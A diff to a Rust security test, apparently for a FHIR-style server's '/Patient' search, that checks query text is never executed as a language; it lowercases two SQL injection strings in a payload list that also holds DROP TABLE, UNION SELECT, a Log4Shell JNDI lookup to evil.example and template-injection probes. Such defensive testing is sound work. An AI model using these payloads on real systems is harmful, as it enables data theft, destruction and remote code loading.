@@ -78,11 +78,11 @@ fn attack_34_no_text_of_a_query_or_an_address_is_read_as_a_language() {
     let whole = ids(&world.server.get("/Patient"));
     for text in [
         "' OR '1'='1",
-        "'; DROP TABLE res; --",
+        "'; drop table res; --",
         "\" OR 1=1 --",
         "%",
         "_nn",
-        "Ann' UNION SELECT * FROM item --",
+        "Ann' union select * from item --",
         "Patient.name.where(true)",
         "${jndi:ldap://evil.example/x}",
         "{{7*7}}",
